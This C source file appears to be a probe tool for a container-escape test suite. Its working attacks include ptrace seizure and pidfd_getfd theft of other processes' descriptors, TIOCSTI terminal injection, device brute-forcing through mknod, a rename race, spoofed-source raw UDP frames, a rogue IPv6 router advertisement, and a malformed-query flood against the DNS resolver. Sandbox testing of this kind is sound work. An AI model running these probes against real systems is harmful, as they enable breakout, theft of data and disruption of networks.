/*
 * Attacks that take more than a shell, for escape*.bats; linked statically. Each prints what it could do.
 *
 *	fds                  descriptors of every visible process that are no pipe, terminal or own null device
 *	writable DIR...      regular files below that open for writing (nothing is written); not /proc/PID
 *	devices              device numbers that mknod and open take ("c 1:3"), of all majors
 *	swap A B             exchanges two names, for ever
 *	stalk SECONDS        seizes, opens and copies descriptors of processes that are not programs of the image
 *	sti TEXT             pushes TEXT into the controlling terminal
 *	abstract NAME        connects to an abstract socket
 *	udp ADDRESS PORT [SOURCE]      one datagram by a frame of our own, by way of the default gateway
 *	advertise            an IPv6 router advertisement to all nodes
 *	flood SECONDS        random and malformed queries to the resolver at 127.0.0.11
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int fail(const char *what)
{
	fprintf(stderr, "%s: %s\n", what, strerror(errno));
	return 1;
}

/* ---- descriptors */

static void look_at(const char *path)
{
	struct stat st, null = { 0 };
	char target[256] = "";

	if (stat(path, &st) < 0)
		return;
	stat("/dev/null", &null);
	if (readlink(path, target, sizeof(target) - 1) < 0)
		strcpy(target, "?");
	if (S_ISFIFO(st.st_mode) || (S_ISCHR(st.st_mode) && major(st.st_rdev) == 136) ||
		(S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3) && st.st_dev == null.st_dev))
		return;
	printf("%s -> %s mode %o\n", path, target, st.st_mode);
}

static int descriptors(void)
{
	DIR *d = opendir("/proc"), *fds;
	struct dirent *e, *f;
	char path[600];

	while (d && (e = readdir(d))) {
		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd", e->d_name);
		fds = opendir(path);
		while (fds && (f = readdir(fds))) {
			if (f->d_name[0] == '.')
				continue;
			/* The two that we read with. */
			if (atoi(e->d_name) == getpid() &&
				(atoi(f->d_name) == dirfd(d) || atoi(f->d_name) == dirfd(fds)))
				continue;
			snprintf(path, sizeof(path), "/proc/%s/fd/%s", e->d_name, f->d_name);
			look_at(path);
		}
		if (fds)
			closedir(fds);
	}
	puts("done");
	return 0;
}

/* ---- files of the kernel */

static int try_write(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
	int fd;

	(void)ftw;
	if (type == FTW_D && strncmp(path, "/proc/", 6) == 0 &&
		((path[6] >= '1' && path[6] <= '9' && !strchr(path + 6, '/'))))
		return FTW_SKIP_SUBTREE;
	/* Root opens the others too, but they have nothing to write to. */
	if (type != FTW_F || !S_ISREG(st->st_mode) || !(st->st_mode & 0222))
		return FTW_CONTINUE;
	fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
	if (fd >= 0) {
		puts(path);
		close(fd);
	}
	return FTW_CONTINUE;
}

static int writable(char **dirs)
{
	for (; *dirs; dirs++)
		nftw(*dirs, try_write, 32, FTW_PHYS | FTW_ACTIONRETVAL);
	puts("done");
	return 0;
}

static int devices(void)
{
	static const unsigned minors[] = { 0, 1, 2, 3, 4, 5, 7, 8, 9, 10, 11, 200, 229, 232, 237 };

	for (int block = 0; block < 2; block++)
		for (unsigned n = 0; n < 512 * sizeof(minors) / sizeof(minors[0]); n++) {
			dev_t dev = makedev(n / 15, minors[n % 15]);
			int fd;
			unlink("/node");
			if (mknod("/node", (block ? S_IFBLK : S_IFCHR) | 0600, dev) < 0)
				continue;
			fd = open("/node", O_RDONLY | O_NONBLOCK | O_NOCTTY);
			if (fd < 0 && errno == EPERM)
				continue;
			/* Anything else says that the control group had let us through. */
			printf("%c %u:%u\n", block ? 'b' : 'c', major(dev), minor(dev));
			if (fd >= 0)
				close(fd);
		}
	puts("done");
	return 0;
}

static int swap(const char *a, const char *b)
{
	const struct timespec pause = {
		.tv_nsec = 20000
	}; /* there is one processor for each of us at best */

	puts("swapping");
	fflush(stdout);
	for (;; nanosleep(&pause, NULL))
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 &&
			errno != ENOENT)
			return fail("renameat2");
}

/* ---- other processes */

/*
 * What a link of /proc leads to that is not here under its name: something of the host's. The sealed file that
 * every process starts as is not, and of what may not be read (but is there) we have to think the worst.
 */
static bool is_foreign(const char *link, char target[256])
{
	struct stat st, here;
	ssize_t n = readlink(link, target, 255);

	if (n < 0)
		return errno != ENOENT && errno != ESRCH;
	target[n] = '\0';
	if (target[0] != '/' || strncmp(target, "/memfd:", 7) == 0 || stat(link, &st) < 0)
		return false;
	return stat(target, &here) < 0 || here.st_ino != st.st_ino || here.st_dev != st.st_dev;
}

static void look_at_found(const char *how, int fd)
{
	char link[64], target[256] = "";

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	if (is_foreign(link, target) && !strstr(target, " (deleted)") &&
		strncmp(target, "/proc/", 6) != 0)
		printf("%s %s\n", how, target);
}

/* What is found is looked at when it is held, for a process becomes another program in between. */
static void stalk_one(const char *name)
{
	char path[300], target[256];
	pid_t pid = atoi(name);
	siginfo_t info;
	int fd, taken;

	snprintf(path, sizeof(path), "/proc/%s/exe", name);
	fd = open(path, O_RDONLY | O_NONBLOCK);
	if (fd >= 0)
		look_at_found("opened", fd);
	if (fd >= 0)
		close(fd);
	fd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int i = 3; fd >= 0 && i < 12; i++) {
		taken = (int)syscall(SYS_pidfd_getfd, fd, i, 0);
		if (taken >= 0)
			look_at_found("took", taken);
		if (taken >= 0)
			close(taken);
	}
	if (fd >= 0)
		close(fd);
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	if (is_foreign(path, target) && ptrace(PTRACE_GETSIGINFO, pid, NULL, &info) == 0)
		puts("seized");
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static int stalk(int seconds)
{
	time_t end = time(NULL) + seconds;
	int seen = 0, highest = getpid();

	puts("stalking");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			/* The newest ones alone, while they are young. */
			if (pid <= 1 || pid == getpid() || pid < highest)
				continue;
			if (pid > highest) {
				highest = pid;
				seen++;
			}
			stalk_one(e->d_name);
		}
		if (d)
			closedir(d);
	}
	printf("seen %d\n", seen);
	return 0;
}

static int push(const char *text)
{
	int fd = open("/dev/tty", O_RDWR);

	for (; fd >= 0 && *text; text++)
		if (ioctl(fd, TIOCSTI, text) < 0)
			return fail("TIOCSTI");
	return fd < 0 ? fail("/dev/tty") : 0;
}

static int connect_abstract(const char *name)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	memcpy(a.sun_path + 1, name, strlen(name));
	if (connect(fd, (struct sockaddr *)&a,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))) < 0)
		return fail("connect");
	puts("connected");
	return 0;
}

/* ---- frames */

/* The gateway's link address, which is in the table once it was spoken to. */
static int gateway(uint8_t mac[6])
{
	FILE *f = fopen("/proc/net/arp", "r");
	char line[256];
	unsigned m[6];

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%*s %*s %*s %x:%x:%x:%x:%x:%x", m, m + 1, m + 2, m + 3, m + 4,
			    m + 5) == 6) {
			for (int i = 0; i < 6; i++)
				mac[i] = (uint8_t)m[i];
			fclose(f);
			return 0;
		}
	if (f)
		fclose(f);
	return -1;
}

static uint32_t sum(const void *data, size_t len, uint32_t s)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		s += (uint32_t)(p[len - 1] << 8);
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((uint16_t)~s);
}

static int send_frame(const uint8_t mac[6], int protocol, const void *data, size_t len)
{
	struct sockaddr_ll a = { .sll_family = AF_PACKET,
		.sll_protocol = htons((uint16_t)protocol),
		.sll_ifindex = (int)if_nametoindex("eth0"),
		.sll_halen = 6 };
	int fd = socket(AF_PACKET, SOCK_DGRAM, htons((uint16_t)protocol));

	memcpy(a.sll_addr, mac, 6);
	if (fd < 0 || sendto(fd, data, len, 0, (struct sockaddr *)&a, sizeof(a)) < 0)
		return fail("send a frame");
	puts("sent");
	return 0;
}

static int send_udp(const char *address, int port, const char *source)
{
	struct {
		struct iphdr ip;
		struct udphdr udp;
		char text[4];
	} p = { .ip = { .version = 4,
			.ihl = 5,
			.ttl = 64,
			.protocol = IPPROTO_UDP,
			.tot_len = htons(32) },
		.udp = { .source = htons(4444), .dest = htons((uint16_t)port), .len = htons(12) },
		.text = "evil" };
	uint8_t mac[6];

	p.ip.daddr = inet_addr(address);
	p.ip.saddr = inet_addr(source);
	p.ip.check = fold(sum(&p.ip, sizeof(p.ip), 0));
	if (gateway(mac) < 0)
		return fail("the gateway is not in /proc/net/arp");
	return send_frame(mac, 0x0800, &p, sizeof(p));
}

static int advertise(void)
{
	static const uint8_t all_nodes[6] = { 0x33, 0x33, 0, 0, 0, 1 };
	struct {
		struct ip6_hdr ip;
		struct nd_router_advert ra;
		struct nd_opt_prefix_info prefix;
	} p = {
		.ip = { .ip6_flow = htonl(0x60000000), .ip6_nxt = IPPROTO_ICMPV6, .ip6_hlim = 255 }
	};
	uint32_t s;

	p.ip.ip6_plen = htons(sizeof(p.ra) + sizeof(p.prefix));
	inet_pton(AF_INET6, "fe80::bad", &p.ip.ip6_src);
	inet_pton(AF_INET6, "ff02::1", &p.ip.ip6_dst);
	p.ra.nd_ra_hdr.icmp6_type = ND_ROUTER_ADVERT;
	p.ra.nd_ra_curhoplimit = 64;
	p.ra.nd_ra_router_lifetime = htons(1800);
	p.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	p.prefix.nd_opt_pi_len = 4;
	p.prefix.nd_opt_pi_prefix_len = 64;
	p.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	p.prefix.nd_opt_pi_valid_time = p.prefix.nd_opt_pi_preferred_time = htonl(3600);
	inet_pton(AF_INET6, "fdba:d::", &p.prefix.nd_opt_pi_prefix);
	s = sum(&p.ip.ip6_src, 32, IPPROTO_ICMPV6 + sizeof(p.ra) + sizeof(p.prefix));
	p.ra.nd_ra_hdr.icmp6_cksum = fold(sum(&p.ra, sizeof(p.ra) + sizeof(p.prefix), s));
	return send_frame(all_nodes, 0x86dd, &p, sizeof(p));
}

/* ---- the resolver */

/* By turns: noise; a header that promises what does not follow; labels that lead in circles; whole ones. */
static size_t query(uint8_t *q, unsigned n)
{
	uint8_t size;

	getrandom(q, 600, 0);
	getrandom(&size, 1, 0);
	if (n % 4 == 0)
		return (size_t)size * 2 + 1;
	memcpy(q + 2, "\1\0\0\1\0\0\0\0\0\0", 10);
	if (n % 4 == 1) {
		memcpy(q + 4, "\377\377\377\377\377\377\377\377", 8);
		return (size_t)size + 12;
	}
	if (n % 4 == 2) {
		q[12] = 0xc0;
		q[13] = 12;
		return 18;
	}
	q[12] = 63;
	memset(q + 13, 'a' + size % 26, 63);
	memcpy(q + 76, "\0\0\1\0\1", 5);
	return 81;
}

static int flood(int seconds)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(53) };
	time_t end = time(NULL) + seconds;
	int udp = socket(AF_INET, SOCK_DGRAM, 0), tcp[64] = { 0 };
	uint8_t q[602];
	unsigned n = 0;

	inet_pton(AF_INET, "127.0.0.11", &a.sin_addr);
	for (int i = 0; i < 64; i++) {
		tcp[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		connect(tcp[i], (struct sockaddr *)&a, sizeof(a));
	}
	signal(SIGPIPE, SIG_IGN);
	while (time(NULL) < end) {
		size_t len = query(q + 2, n++);
		sendto(udp, q + 2, len, MSG_DONTWAIT, (struct sockaddr *)&a, sizeof(a));
		q[0] = (uint8_t)(len >> 8);
		q[1] = (uint8_t)len;
		if (send(tcp[n % 64], q, len + 2, MSG_DONTWAIT) < 0 && errno != EAGAIN) {
			close(tcp[n % 64]);
			tcp[n % 64] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
			connect(tcp[n % 64], (struct sockaddr *)&a, sizeof(a));
		}
	}
	printf("sent %u\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	if (strcmp(verb, "fds") == 0)
		return descriptors();
	if (strcmp(verb, "writable") == 0)
		return writable(argv + 2);
	if (strcmp(verb, "devices") == 0)
		return devices();
	if (strcmp(verb, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(verb, "stalk") == 0 && argc == 3)
		return stalk(atoi(argv[2]));
	if (strcmp(verb, "sti") == 0 && argc == 3)
		return push(argv[2]);
	if (strcmp(verb, "abstract") == 0 && argc == 3)
		return connect_abstract(argv[2]);
	if (strcmp(verb, "udp") == 0 && argc == 5)
		return send_udp(argv[2], atoi(argv[3]), argv[4]);
	if (strcmp(verb, "advertise") == 0)
		return advertise();
	if (strcmp(verb, "flood") == 0 && argc == 3)
		return flood(atoi(argv[2]));
	fprintf(stderr, "escape: what? see the top of escape.c\n");
	return 2;
}
